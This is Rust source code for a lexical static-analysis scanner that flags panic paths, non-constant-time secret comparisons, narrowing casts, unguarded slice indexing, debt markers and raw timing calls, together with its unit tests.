    while t.len() >= 2 && t[0].text == "(" && t[t.len() - 1].text == ")" {
        // The opening paren must match the *last* token, not an inner one.
        let mut depth = 0i64;
        let mut wraps = true;
        for (i, tok) in t.iter().enumerate() {
            match tok.text.as_str() {
                "(" => depth += 1,
                ")" => {
                    depth -= 1;
                    if depth == 0 && i + 1 != t.len() {
                        wraps = false;
                        break;
                    }
                }
                _ => {}
            }
        }
        if !wraps {
            break;
        }
        t.pop();
        t.remove(0);
    }
}

/// Is token `idx` outside every paren/bracket group of `t`?
fn at_top_level(t: &[&Token], idx: usize) -> bool {
    let mut depth = 0i64;
    for tok in &t[..idx] {
        match tok.text.as_str() {
            "(" | "[" => depth += 1,
            ")" | "]" => depth -= 1,
            _ => {}
        }
    }
    depth == 0
}

/// Parses a Rust integer literal (`16`, `0xff`, `0b1010`, `1_000`,
/// suffixes tolerated). Returns `None` for anything non-numeric.
pub(crate) fn parse_int(text: &str) -> Option<u64> {
    let s: String = text.chars().filter(|c| *c != '_').collect();
    let (digits, radix) = if let Some(h) = s.strip_prefix("0x") {
        (h, 16)
    } else if let Some(b) = s.strip_prefix("0b") {
        (b, 2)
    } else if let Some(o) = s.strip_prefix("0o") {
        (o, 8)
    } else {
        (s.as_str(), 10)
    };
    let end = digits
        .char_indices()
        .find(|&(_, c)| !c.is_digit(radix))
        .map(|(i, _)| i)
        .unwrap_or(digits.len());
    if end == 0 {
        return None;
    }
    u64::from_str_radix(&digits[..end], radix).ok()
}

fn rule_r7(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i]
            || code[i].kind != TokenKind::Ident
            || !matches!(code[i].text.as_str(), "Instant" | "SystemTime")
        {
            continue;
        }
        if code.get(i + 1).map(|t| t.text.as_str()) == Some("::")
            && code.get(i + 2).map(|t| t.text.as_str()) == Some("now")
        {
            push(
                findings,
                ctx,
                Rule::R7RawTiming,
                code[i].line,
                ann.fn_name(i),
                format!("raw {}::now() (route timing through the telemetry Clock)", code[i].text),
            );
        }
    }
}

fn rule_r6(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    for c in &ann.comments {
        for marker in ["TODO", "FIXME", "XXX", "HACK"] {
            if c.text.contains(marker) {
                push(
                    findings,
                    ctx,
                    Rule::R6DebtMarker,
                    c.line,
                    "-",
                    format!("{marker} comment"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;

    fn ctx<'a>(krate: &'a str, file: &'a str) -> FileContext<'a> {
        FileContext { crate_name: krate, rel_path: file, file_name: file }
    }

    fn scan(krate: &str, file: &str, src: &str) -> Vec<Finding> {
        scan_tokens(&ctx(krate, file), &annotate(tokenize(src))).0
    }

    #[test]
    fn r1_flags_library_unwrap_but_not_test_code() {
        let src = r#"
            pub fn lib_path(x: Option<u8>) -> u8 { x.unwrap() }
            #[cfg(test)]
            mod tests {
                #[test]
                fn t() { Some(1).unwrap(); panic!("fine in tests"); }
            }
            pub fn after_tests(y: Option<u8>) -> u8 { y.unwrap() }
        "#;
        let f = scan("demo", "demo.rs", src);
        let r1: Vec<_> = f.iter().filter(|f| f.rule == Rule::R1PanicPath).collect();
        // Library code before AND after the test module is flagged; the
        // `#[test]` inside the excluded module must not leak exclusion
        // onto `after_tests`.
        assert_eq!(r1.len(), 2);
        assert_eq!(r1[0].function, "lib_path");
        assert_eq!(r1[1].function, "after_tests");
    }

    #[test]
    fn r1_expect_needs_a_string_argument() {
        // A parser method named `expect` taking a byte is not Option::expect.
        let src = "fn f(&mut self) { self.expect(b':')?; }";
        assert!(scan("demo", "d.rs", src).iter().all(|f| f.rule != Rule::R1PanicPath));
        let src2 = "fn f(x: Option<u8>) -> u8 { x.expect(\"boom\") }";
        assert_eq!(scan("demo", "d.rs", src2).len(), 1);
    }

    #[test]
    fn r1_flags_panic_macros_but_not_paths() {
        let src = "fn f() { std::panic::catch_unwind(|| 1).ok(); }";
        assert!(scan("demo", "d.rs", src).is_empty());
        let src2 = "fn f() { unreachable!(\"no\"); }";
        assert_eq!(scan("demo", "d.rs", src2).len(), 1);
    }

    #[test]
    fn r2_flags_secret_compare_only_in_scope() {
        let src = "fn v(tag: &[u8], other: &[u8]) -> bool { tag == other }";
        assert_eq!(scan("crypto", "x.rs", src).len(), 1);
        // Same code outside crypto/netsec: not in scope.
        assert!(scan("pon", "x.rs", src).is_empty());
    }

    #[test]
    fn r2_ignores_public_lengths_and_neutral_idents() {
        let src = "fn v(key: &[u8]) -> bool { key.len() == 32 }";
        assert!(scan("crypto", "x.rs", src).is_empty());
        let src2 = "fn v(a: u8, b: u8) -> bool { a == b }";
        assert!(scan("crypto", "x.rs", src2).is_empty());
        // `macsec` does not segment to `mac`.
        let src3 = "fn v(macsec_mode: u8) -> bool { macsec_mode == 3 }";
        assert!(scan("netsec", "x.rs", src3).is_empty());
    }

    #[test]
    fn r4_flags_narrowing_not_widening() {
        let src = "fn f(sci: u64) -> u32 { sci as u32 }";
        let f = scan("netsec", "x.rs", src);
        assert_eq!(f.len(), 1);
        assert!(f[0].detail.contains("as u32"));
        let src2 = "fn f(x: u32) -> u64 { x as u64 }";
        assert!(scan("netsec", "x.rs", src2).is_empty());
        // Literal bounds are not narrowing hazards.
        let src3 = "fn f() -> u64 { u32::MAX as u64 }";
        assert!(scan("netsec", "x.rs", src3).is_empty());
    }

    #[test]
    fn r5_flags_unguarded_dynamic_index_only() {
        let unguarded = "fn f(buf: &[u8], i: usize) -> u8 { buf[i] }";
        let f = scan("pon", "frame.rs", unguarded);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, Rule::R5UnguardedIndex);

        let guarded = "fn f(buf: &[u8], i: usize) -> u8 { if i < buf.len() { buf[i] } else { 0 } }";
        assert!(scan("pon", "frame.rs", guarded).is_empty());

        let constant = "fn f(buf: &[u8]) -> u8 { buf[0] }";
        assert!(scan("pon", "frame.rs", constant).is_empty());

        // Out-of-scope file: no R5.
        assert!(scan("pon", "topology.rs", unguarded).is_empty());
    }

    #[test]
    fn r5_literal_bounded_loop_vars_are_static() {
        // `for r in 1..4` pins `r` at compile time — AES-style state
        // shuffles through it are not dynamic indexing.
        let src = "fn f(b: &mut [u8]) { for r in 1..4 { b[r] = b[r + 4]; } }";
        assert!(scan("crypto", "aes.rs", src).is_empty());
        // A variable-bounded loop stays flagged.
        let src2 = "fn f(w: &mut [u32], nk: usize, m: usize) { for i in nk..m { w[i] = 0; } }";
        assert_eq!(scan("crypto", "aes.rs", src2).len(), 1);
        // Outside its loop body the name is dynamic again.
        let src3 = "fn f(b: &[u8], r: usize) -> u8 { for r in 0..2 { let _ = r; } b[r] }";
        assert_eq!(scan("crypto", "aes.rs", src3).len(), 1);
    }

    #[test]
    fn r6_counts_debt_markers_in_comments_only() {
        let src = "// TODO: tighten\nfn f() { let todo_list = 1; }";
        let f = scan("demo", "x.rs", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, Rule::R6DebtMarker);
    }

    #[test]
    fn r7_flags_raw_timing_outside_the_clock() {
        let src = "fn f() -> std::time::Instant { Instant::now() }";
        let f = scan("pon", "sim.rs", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, Rule::R7RawTiming);
        assert!(f[0].detail.contains("Instant::now()"));
        // SystemTime is flagged the same way.
        let src2 = "fn f() { let _ = SystemTime::now(); }";
        assert_eq!(scan("core", "x.rs", src2).len(), 1);
    }

    #[test]
    fn r7_allows_the_clock_abstraction_and_bench_harness() {
        let src = "fn f() -> std::time::Instant { Instant::now() }";
        assert!(scan("telemetry", "clock.rs", src).is_empty());
        assert!(scan("testkit", "bench.rs", src).is_empty());
        // Same names, elsewhere in those crates: still flagged.
        assert_eq!(scan("telemetry", "span.rs", src).len(), 1);
    }

    #[test]
    fn r7_ignores_test_code_and_non_call_mentions() {
        let src = "#[cfg(test)]\nmod tests { #[test]\nfn t() { let _ = Instant::now(); } }";
        assert!(scan("pon", "sim.rs", src).is_empty());
        // `Instant` without `::now` (e.g. a type position) is fine.
        let src2 = "fn f(epoch: Instant) -> Instant { epoch }";
        assert!(scan("pon", "sim.rs", src2).is_empty());
    }

    #[test]
    fn forbid_attr_detection() {
        assert!(has_forbid_unsafe(&tokenize("#![forbid(unsafe_code)]\npub fn x() {}")));
        assert!(!has_forbid_unsafe(&tokenize("#![deny(missing_docs)]")));
    }

    #[test]
    fn fn_attribution_handles_nesting() {
        let src = "fn outer() { fn inner(x: Option<u8>) { x.unwrap(); } }";
        let f = scan("demo", "x.rs", src);
        assert_eq!(f[0].function, "inner");
    }
}
