//! Security/correctness rules over the token stream.
//!
//! Seven rules, mirroring the failure classes Lesson 7 calls out for
//! immature SAST on custom stacks — each is a *lexical* check (fast, no
//! type information) whose parser-facing classes (R4, R5) are then
//! confirmed through the `genio_appsec::sast` taint engine by
//! [`crate::bridge`]:
//!
//! * **R1** `unwrap`/`expect`/`panic!`/`unreachable!`/`todo!` in
//!   non-test library code — abort paths a production service must not
//!   keep.
//! * **R2** `==`/`!=` on secret material (tags, MACs, digests, keys) in
//!   `crates/crypto` and `crates/netsec` — must go through
//!   `genio_crypto::ct::eq`.
//! * **R3** crate roots missing `#![forbid(unsafe_code)]`.
//! * **R4** narrowing `as` casts (to ≤32-bit integers) inside the
//!   frame/feed parser crates (`pon`, `netsec`, `vulnmgmt`).
//! * **R5** dynamic slice indexing with no preceding bounds guard
//!   (`x.len()` / `x.get(..)` seen earlier in the same function) in the
//!   AEAD/frame hot paths.
//! * **R6** debt markers (to-do / fix-me style) left in comments.
//! * **R7** raw `Instant::now()` / `SystemTime::now()` outside the
//!   telemetry clock abstraction — timing must route through
//!   `genio_telemetry::Clock` so tests stay deterministic.
//!
//! Rules only ever *add* findings; what is acceptable today is recorded
//! in the committed baseline and ratcheted down by
//! [`crate::baseline::diff`].

use crate::lexer::{Token, TokenKind};

/// Rule identifiers, stable across releases (they key the baseline).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Rule {
    /// Abort path in library code.
    R1PanicPath,
    /// Non-constant-time comparison of secret material.
    R2NonCtCompare,
    /// Crate root missing `#![forbid(unsafe_code)]`.
    R3MissingForbid,
    /// Narrowing integer cast in a parser crate.
    R4NarrowingCast,
    /// Unguarded dynamic slice index in an AEAD/frame hot path.
    R5UnguardedIndex,
    /// Debt marker in a comment.
    R6DebtMarker,
    /// Raw OS timing call outside the telemetry clock abstraction.
    R7RawTiming,
}

impl Rule {
    /// Short stable id used in reports and baselines.
    pub fn id(self) -> &'static str {
        match self {
            Rule::R1PanicPath => "R1",
            Rule::R2NonCtCompare => "R2",
            Rule::R3MissingForbid => "R3",
            Rule::R4NarrowingCast => "R4",
            Rule::R5UnguardedIndex => "R5",
            Rule::R6DebtMarker => "R6",
            Rule::R7RawTiming => "R7",
        }
    }

    /// Parses the short id back (baseline loading).
    pub fn from_id(id: &str) -> Option<Rule> {
        Some(match id {
            "R1" => Rule::R1PanicPath,
            "R2" => Rule::R2NonCtCompare,
            "R3" => Rule::R3MissingForbid,
            "R4" => Rule::R4NarrowingCast,
            "R5" => Rule::R5UnguardedIndex,
            "R6" => Rule::R6DebtMarker,
            "R7" => Rule::R7RawTiming,
            _ => return None,
        })
    }

    /// All rules, report order.
    pub const ALL: [Rule; 7] = [
        Rule::R1PanicPath,
        Rule::R2NonCtCompare,
        Rule::R3MissingForbid,
        Rule::R4NarrowingCast,
        Rule::R5UnguardedIndex,
        Rule::R6DebtMarker,
        Rule::R7RawTiming,
    ];

    /// One-line description for the report table.
    pub fn title(self) -> &'static str {
        match self {
            Rule::R1PanicPath => "abort path (unwrap/expect/panic!) in library code",
            Rule::R2NonCtCompare => "secret material compared with ==/!= instead of ct::eq",
            Rule::R3MissingForbid => "crate root missing #![forbid(unsafe_code)]",
            Rule::R4NarrowingCast => "narrowing `as` cast in frame/feed parser",
            Rule::R5UnguardedIndex => "slice index without preceding bounds guard in hot path",
            Rule::R6DebtMarker => "TODO/FIXME debt marker",
            Rule::R7RawTiming => "raw Instant/SystemTime timing outside the telemetry clock",
        }
    }
}

/// One analyzer finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Violated rule.
    pub rule: Rule,
    /// Repo-relative file path (forward slashes).
    pub file: String,
    /// 1-based line (human navigation only; not part of the ratchet key).
    pub line: u32,
    /// Enclosing function, `-` at item level.
    pub function: String,
    /// Stable, line-free description (part of the ratchet key).
    pub detail: String,
    /// For R4/R5: did the sast taint bridge confirm reachability?
    pub confirmed: Option<bool>,
}

/// A (possibly guarded) parser-input access that [`crate::bridge`]
/// lowers into the `genio_appsec::sast` IR.
#[derive(Debug, Clone)]
pub struct Access {
    /// Enclosing function.
    pub function: String,
    /// Variable the access reads (`buf` in `buf[i]`, cast subject for R4).
    pub var: String,
    /// Whether a bounds guard dominates the access lexically.
    pub guarded: bool,
    /// Which rule produced the access.
    pub rule: Rule,
}

/// What the scanner knows about the file being checked.
#[derive(Debug, Clone)]
pub struct FileContext<'a> {
    /// Crate directory name (`crypto`, `pon`, …; `genio` for the root
    /// facade).
    pub crate_name: &'a str,
    /// Repo-relative path, forward slashes.
    pub rel_path: &'a str,
    /// Base file name (`gcm.rs`).
    pub file_name: &'a str,
}

/// Crates whose secret comparisons must be constant-time (R2).
const R2_CRATES: &[&str] = &["crypto", "netsec"];

/// Frame/feed parser crates narrowed casts are flagged in (R4).
const R4_CRATES: &[&str] = &["pon", "netsec", "vulnmgmt"];

/// AEAD/frame hot-path files checked for unguarded indexing (R5).
const R5_FILES: &[(&str, &str)] = &[
    ("crypto", "gcm.rs"),
    ("crypto", "aes.rs"),
    ("pon", "frame.rs"),
    ("pon", "security.rs"),
    ("netsec", "macsec.rs"),
];

/// Files allowed to read the OS clock directly (R7): the telemetry
/// clock abstraction itself, and the testkit bench harness that measures
/// wall time by design.
const R7_ALLOWED: &[(&str, &str)] = &[("telemetry", "clock.rs"), ("testkit", "bench.rs")];

/// Identifier segments that mark secret material for R2.
const SECRET_SEGMENTS: &[&str] = &[
    "tag", "icv", "mac", "digest", "key", "secret", "password", "finished",
];

/// Narrowing cast targets for R4 (≤32-bit; widening to u64/usize is not
/// flagged — the scanner has no type info, so this errs on silence).
const NARROW_TARGETS: &[&str] = &["u8", "u16", "u32", "i8", "i16", "i32"];

/// R1-flagged macro names (when followed by `!`).
const PANIC_MACROS: &[&str] = &["panic", "unreachable", "todo", "unimplemented"];

/// Keywords that can precede `[` without being an indexed variable.
const KEYWORDS: &[&str] = &[
    "as", "async", "await", "box", "break", "const", "continue", "crate", "dyn",
    "else", "enum", "fn", "for", "if", "impl", "in", "let", "loop", "match",
    "mod", "move", "mut", "pub", "ref", "return", "static", "struct", "super",
    "trait", "type", "unsafe", "use", "where", "while",
];

/// Token stream annotated with test-exclusion ranges, enclosing-function
/// attribution and bounds-guard sites.
pub struct Annotated {
    /// Non-comment tokens, source order.
    pub code: Vec<Token>,
    /// Comment tokens, source order.
    pub comments: Vec<Token>,
    /// Per `code` index: inside a `#[cfg(test)]` / `#[test]` item?
    pub excluded: Vec<bool>,
    /// Per `code` index: index into `fn_names`.
    pub fn_of: Vec<usize>,
    /// Function-name table; entry 0 is `-` (item level).
    pub fn_names: Vec<String>,
    /// `(code index, variable)` sites where a bounds guard was seen
    /// (`var.len()`, `var.get(..)`, `var.iter()`).
    pub guards: Vec<(usize, String)>,
    /// Loop variables bound by a *literal* range (`for r in 1..4`), as
    /// `(var, first code index, last code index)` of the loop body —
    /// indexing through them is statically in-bounds for fixed-size
    /// state arrays, so R5 treats them like literal indices.
    pub bounded: Vec<(String, usize, usize)>,
}

/// Builds the annotation in a single forward walk.
pub fn annotate(tokens: Vec<Token>) -> Annotated {
    let (code, comments): (Vec<Token>, Vec<Token>) = tokens
        .into_iter()
        .partition(|t| t.kind != TokenKind::Comment);

    let n = code.len();
    let mut excluded = vec![false; n];
    let mut fn_of = vec![0usize; n];
    let mut fn_names = vec!["-".to_string()];
    let mut guards = Vec::new();

    let mut depth = 0usize;
    let mut exclude_depth: Option<usize> = None;
    let mut pending_test = false;
    let mut pending_fn: Option<String> = None;
    let mut fn_stack: Vec<(usize, usize)> = Vec::new(); // (name idx, depth)

    let mut i = 0;
    while i < n {
        let t = &code[i];
        let text = t.text.as_str();

        // Outer attribute: `#[ ... ]` — detect test gating.
        if text == "#" && i + 1 < n && code[i + 1].text == "[" {
            let mut j = i + 2;
            let mut brackets = 1usize;
            let mut attr = String::new();
            while j < n && brackets > 0 {
                match code[j].text.as_str() {
                    "[" => brackets += 1,
                    "]" => brackets -= 1,
                    s if brackets > 0 => attr.push_str(s),
                    _ => {}
                }
                j += 1;
            }
            if attr == "test" || attr.starts_with("cfg(test") || attr.starts_with("cfg(all(test")
            {
                pending_test = true;
            }
            for k in i..j {
                fn_of[k] = fn_stack.last().map(|&(idx, _)| idx).unwrap_or(0);
                excluded[k] = exclude_depth.is_some();
            }
            i = j;
            continue;
        }

        match text {
            "{" => {
                depth += 1;
                // A `#[test]` inside an already-excluded `#[cfg(test)]`
                // module must still be consumed here, or it would leak
                // onto the next item after the module closes.
                if pending_test {
                    if exclude_depth.is_none() {
                        exclude_depth = Some(depth);
                    }
                    pending_test = false;
                }
                if let Some(name) = pending_fn.take() {
                    fn_names.push(name);
                    fn_stack.push((fn_names.len() - 1, depth));
                }
            }
            "}" => {
                if let Some(&(_, d)) = fn_stack.last() {
                    if d == depth {
                        fn_stack.pop();
                    }
                }
                excluded[i] = exclude_depth.is_some();
                if exclude_depth == Some(depth) {
                    exclude_depth = None;
                }
                fn_of[i] = fn_stack.last().map(|&(idx, _)| idx).unwrap_or(0);
                depth = depth.saturating_sub(1);
                i += 1;
                continue;
            }
            ";" => {
                // Attribute applied to a non-braced item (`use`, decl).
                if exclude_depth.is_none() {
                    pending_test = false;
                }
                pending_fn = None;
            }
            "fn" if i + 1 < n && code[i + 1].kind == TokenKind::Ident => {
                pending_fn = Some(code[i + 1].text.clone());
            }
            _ => {}
        }

        // Bounds-guard site: `var.len` / `var.get` / `var.iter`.
        if t.kind == TokenKind::Ident
            && i + 2 < n
            && code[i + 1].text == "."
            && matches!(code[i + 2].text.as_str(), "len" | "get" | "iter" | "is_empty")
        {
            guards.push((i, text.to_string()));
        }

        excluded[i] = exclude_depth.is_some();
        fn_of[i] = fn_stack.last().map(|&(idx, _)| idx).unwrap_or(0);
        i += 1;
    }

    // Second, cheap pass: literal-range `for` loops. `for r in 1..4 {`
    // binds `r` to a compile-time range, so indexing fixed-size state
    // through it cannot go out of bounds.
    let mut bounded = Vec::new();
    i = 0;
    while i < n {
        if code[i].text == "for"
            && code.get(i + 1).is_some_and(|t| t.kind == TokenKind::Ident)
            && code.get(i + 2).map(|t| t.text.as_str()) == Some("in")
        {
            let var = code[i + 1].text.clone();
            let mut j = i + 3;
            let mut saw_range = false;
            let mut literal_only = true;
            while j < n && code[j].text != "{" {
                match code[j].text.as_str() {
                    ".." | "..=" => saw_range = true,
                    "(" | ")" => {}
                    _ if code[j].kind == TokenKind::Num => {}
                    _ => {
                        literal_only = false;
                        break;
                    }
                }
                j += 1;
            }
            if saw_range && literal_only && j < n {
                let start = j + 1;
                let mut body_depth = 1usize;
                let mut k = start;
                while k < n && body_depth > 0 {
                    match code[k].text.as_str() {
                        "{" => body_depth += 1,
                        "}" => body_depth -= 1,
                        _ => {}
                    }
                    k += 1;
                }
                bounded.push((var, start, k.saturating_sub(1)));
            }
        }
        i += 1;
    }

    Annotated { code, comments, excluded, fn_of, fn_names, guards, bounded }
}

impl Annotated {
    fn fn_name(&self, i: usize) -> &str {
        &self.fn_names[self.fn_of[i]]
    }

    /// Is a guard on `var` recorded before code index `i`, inside the
    /// same function?
    fn guarded_before(&self, i: usize, var: &str) -> bool {
        let f = self.fn_of[i];
        self.guards
            .iter()
            .any(|&(gi, ref v)| gi < i && v == var && self.fn_of[gi] == f)
    }

    /// Is `name` a literal-range loop variable at code index `i`?
    fn is_literal_bounded(&self, i: usize, name: &str) -> bool {
        self.bounded
            .iter()
            .any(|&(ref v, s, e)| v == name && s <= i && i <= e)
    }
}

/// Does the (crate-root) token stream carry `#![forbid(unsafe_code)]`?
pub fn has_forbid_unsafe(tokens: &[Token]) -> bool {
    tokens.windows(4).any(|w| {
        w[0].text == "forbid"
            && w[1].text == "("
            && w[2].text == "unsafe_code"
            && w[3].text == ")"
    })
}

/// Runs every per-file rule. Returns the findings plus the R4/R5 access
/// records for the sast bridge (R3 is a per-crate rule and lives in
/// [`crate::workspace`]).
pub fn scan_tokens(ctx: &FileContext<'_>, ann: &Annotated) -> (Vec<Finding>, Vec<Access>) {
    let mut findings = Vec::new();
    let mut accesses = Vec::new();

    rule_r1(ctx, ann, &mut findings);
    if R2_CRATES.contains(&ctx.crate_name) {
        rule_r2(ctx, ann, &mut findings);
    }
    if R4_CRATES.contains(&ctx.crate_name) {
        rule_r4(ctx, ann, &mut findings, &mut accesses);
    }
    if R5_FILES
        .iter()
        .any(|&(c, f)| c == ctx.crate_name && f == ctx.file_name)
    {
        rule_r5(ctx, ann, &mut findings, &mut accesses);
    }
    rule_r6(ctx, ann, &mut findings);
    if !R7_ALLOWED
        .iter()
        .any(|&(c, f)| c == ctx.crate_name && f == ctx.file_name)
    {
        rule_r7(ctx, ann, &mut findings);
    }

    (findings, accesses)
}

fn push(
    findings: &mut Vec<Finding>,
    ctx: &FileContext<'_>,
    rule: Rule,
    line: u32,
    function: &str,
    detail: String,
) {
    findings.push(Finding {
        rule,
        file: ctx.rel_path.to_string(),
        line,
        function: function.to_string(),
        detail,
        confirmed: None,
    });
}

fn rule_r1(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i] || code[i].kind != TokenKind::Ident {
            continue;
        }
        let text = code[i].text.as_str();
        let prev = i.checked_sub(1).map(|p| code[p].text.as_str());
        let next = code.get(i + 1).map(|t| t.text.as_str());
        let detail = if text == "unwrap" && prev == Some(".") && next == Some("(") {
            "call to .unwrap()".to_string()
        } else if text == "expect"
            && prev == Some(".")
            && next == Some("(")
            && code.get(i + 2).is_some_and(|t| t.kind == TokenKind::Str)
        {
            "call to .expect(..)".to_string()
        } else if PANIC_MACROS.contains(&text) && next == Some("!") && prev != Some("::") {
            format!("{text}! macro")
        } else {
            continue;
        };
        push(findings, ctx, Rule::R1PanicPath, code[i].line, ann.fn_name(i), detail);
    }
}

/// Does `ident` contain a secret-material segment as a whole `_`-separated
/// word (`public_key` yes, `macsec` no)?
fn has_secret_segment(ident: &str) -> bool {
    ident
        .split('_')
        .any(|seg| SECRET_SEGMENTS.contains(&seg.to_ascii_lowercase().as_str()))
}

fn rule_r2(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i] || !matches!(code[i].text.as_str(), "==" | "!=") {
            continue;
        }
        // Collect operand identifiers in a small window around the
        // operator, bounded by statement/block punctuation.
        let mut involved: Option<String> = None;
        for dir in [-1i64, 1] {
            for step in 1..=8i64 {
                let j = i as i64 + dir * step;
                if j < 0 || j as usize >= code.len() {
                    break;
                }
                let t = &code[j as usize];
                if matches!(t.text.as_str(), ";" | "{" | "}") {
                    break;
                }
                if t.kind == TokenKind::Ident && has_secret_segment(&t.text) {
                    // A `.len()`-style projection compares public sizes.
                    let after = code.get(j as usize + 2).map(|t| t.text.as_str());
                    let is_len = code.get(j as usize + 1).map(|t| t.text.as_str())
                        == Some(".")
                        && matches!(after, Some("len" | "is_empty" | "capacity"));
                    if !is_len {
                        involved = Some(t.text.clone());
                        break;
                    }
                }
            }
            if involved.is_some() {
                break;
            }
        }
        if let Some(ident) = involved {
            push(
                findings,
                ctx,
                Rule::R2NonCtCompare,
                code[i].line,
                ann.fn_name(i),
                format!("`{}` compared on `{ident}` (use ct::eq)", code[i].text),
            );
        }
    }
}

fn rule_r4(
    ctx: &FileContext<'_>,
    ann: &Annotated,
    findings: &mut Vec<Finding>,
    accesses: &mut Vec<Access>,
) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i] || code[i].text != "as" || code[i].kind != TokenKind::Ident {
            continue;
        }
        let Some(target) = code.get(i + 1) else { continue };
        if !NARROW_TARGETS.contains(&target.text.as_str()) {
            continue;
        }
        // Cast subject: nearest identifier to the left (for the bridge).
        let var = i
            .checked_sub(1)
            .and_then(|p| {
                code[..=p]
                    .iter()
                    .rev()
                    .take(4)
                    .find(|t| t.kind == TokenKind::Ident)
            })
            .map(|t| t.text.clone())
            .unwrap_or_else(|| "expr".to_string());
        // Casting a literal narrows nothing worth flagging.
        if i >= 1 && code[i - 1].kind == TokenKind::Num {
            continue;
        }
        let function = ann.fn_name(i).to_string();
        push(
            findings,
            ctx,
            Rule::R4NarrowingCast,
            code[i].line,
            &function,
            format!("narrowing cast `as {}` of `{var}`", target.text),
        );
        accesses.push(Access { function, var, guarded: false, rule: Rule::R4NarrowingCast });
    }
}

fn rule_r5(
    ctx: &FileContext<'_>,
    ann: &Annotated,
    findings: &mut Vec<Finding>,
    accesses: &mut Vec<Access>,
) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i]
            || code[i].kind != TokenKind::Ident
            || KEYWORDS.contains(&code[i].text.as_str())
            || code.get(i + 1).map(|t| t.text.as_str()) != Some("[")
        {
            continue;
        }
        // Walk the bracket; a purely literal index/range is static.
        let mut j = i + 2;
        let mut brackets = 1usize;
        let mut dynamic = false;
        while j < code.len() && brackets > 0 {
            match code[j].text.as_str() {
                "[" => brackets += 1,
                "]" => brackets -= 1,
                // A cast suffix never adds dynamism, and literal-range
                // loop variables are as static as the literals bounding
                // them.
                "as" | "usize" => {}
                _ => {
                    if code[j].kind == TokenKind::Ident
                        && !ann.is_literal_bounded(j, &code[j].text)
                    {
                        dynamic = true;
                    }
                }
            }
            j += 1;
        }
        if !dynamic {
            continue;
        }
        let var = code[i].text.clone();
        let function = ann.fn_name(i).to_string();
        let guarded = ann.guarded_before(i, &var);
        accesses.push(Access {
            function: function.clone(),
            var: var.clone(),
            guarded,
            rule: Rule::R5UnguardedIndex,
        });
        if !guarded {
            push(
                findings,
                ctx,
                Rule::R5UnguardedIndex,
                code[i].line,
                &function,
                format!("dynamic index into `{var}` with no preceding bounds guard"),
            );
        }
    }
}

fn rule_r7(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i]
            || code[i].kind != TokenKind::Ident
            || !matches!(code[i].text.as_str(), "Instant" | "SystemTime")
        {
            continue;
        }
        if code.get(i + 1).map(|t| t.text.as_str()) == Some("::")
            && code.get(i + 2).map(|t| t.text.as_str()) == Some("now")
        {
            push(
                findings,
                ctx,
                Rule::R7RawTiming,
                code[i].line,
                ann.fn_name(i),
                format!("raw {}::now() (route timing through the telemetry Clock)", code[i].text),
            );
        }
    }
}

fn rule_r6(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    for c in &ann.comments {
        for marker in ["TODO", "FIXME", "XXX", "HACK"] {
            if c.text.contains(marker) {
                push(
                    findings,
                    ctx,
                    Rule::R6DebtMarker,
                    c.line,
                    "-",
                    format!("{marker} comment"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;

    fn ctx<'a>(krate: &'a str, file: &'a str) -> FileContext<'a> {
        FileContext { crate_name: krate, rel_path: file, file_name: file }
    }

    fn scan(krate: &str, file: &str, src: &str) -> Vec<Finding> {
        scan_tokens(&ctx(krate, file), &annotate(tokenize(src))).0
    }

    #[test]
    fn r1_flags_library_unwrap_but_not_test_code() {
        let src = r#"
            pub fn lib_path(x: Option<u8>) -> u8 { x.unwrap() }
            #[cfg(test)]
            mod tests {
                #[test]
                fn t() { Some(1).unwrap(); panic!("fine in tests"); }
            }
            pub fn after_tests(y: Option<u8>) -> u8 { y.unwrap() }
        "#;
        let f = scan("demo", "demo.rs", src);
        let r1: Vec<_> = f.iter().filter(|f| f.rule == Rule::R1PanicPath).collect();
        // Library code before AND after the test module is flagged; the
        // `#[test]` inside the excluded module must not leak exclusion
        // onto `after_tests`.
        assert_eq!(r1.len(), 2);
        assert_eq!(r1[0].function, "lib_path");
        assert_eq!(r1[1].function, "after_tests");
    }

    #[test]
    fn r1_expect_needs_a_string_argument() {
        // A parser method named `expect` taking a byte is not Option::expect.
        let src = "fn f(&mut self) { self.expect(b':')?; }";
        assert!(scan("demo", "d.rs", src).iter().all(|f| f.rule != Rule::R1PanicPath));
        let src2 = "fn f(x: Option<u8>) -> u8 { x.expect(\"boom\") }";
        assert_eq!(scan("demo", "d.rs", src2).len(), 1);
    }

    #[test]
    fn r1_flags_panic_macros_but_not_paths() {
        let src = "fn f() { std::panic::catch_unwind(|| 1).ok(); }";
        assert!(scan("demo", "d.rs", src).is_empty());
        let src2 = "fn f() { unreachable!(\"no\"); }";
        assert_eq!(scan("demo", "d.rs", src2).len(), 1);
    }

    #[test]
    fn r2_flags_secret_compare_only_in_scope() {
        let src = "fn v(tag: &[u8], other: &[u8]) -> bool { tag == other }";
        assert_eq!(scan("crypto", "x.rs", src).len(), 1);
        // Same code outside crypto/netsec: not in scope.
        assert!(scan("pon", "x.rs", src).is_empty());
    }

    #[test]
    fn r2_ignores_public_lengths_and_neutral_idents() {
        let src = "fn v(key: &[u8]) -> bool { key.len() == 32 }";
        assert!(scan("crypto", "x.rs", src).is_empty());
        let src2 = "fn v(a: u8, b: u8) -> bool { a == b }";
